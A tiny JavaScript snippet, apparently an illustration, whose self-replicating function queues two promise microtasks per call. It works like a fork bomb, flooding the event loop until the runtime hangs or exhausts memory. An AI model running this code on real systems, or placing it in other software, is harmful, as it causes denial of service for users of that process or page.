// Jobs that make two jobs each.
const split = () => { Promise.resolve().then(split); Promise.resolve().then(split); };
split();
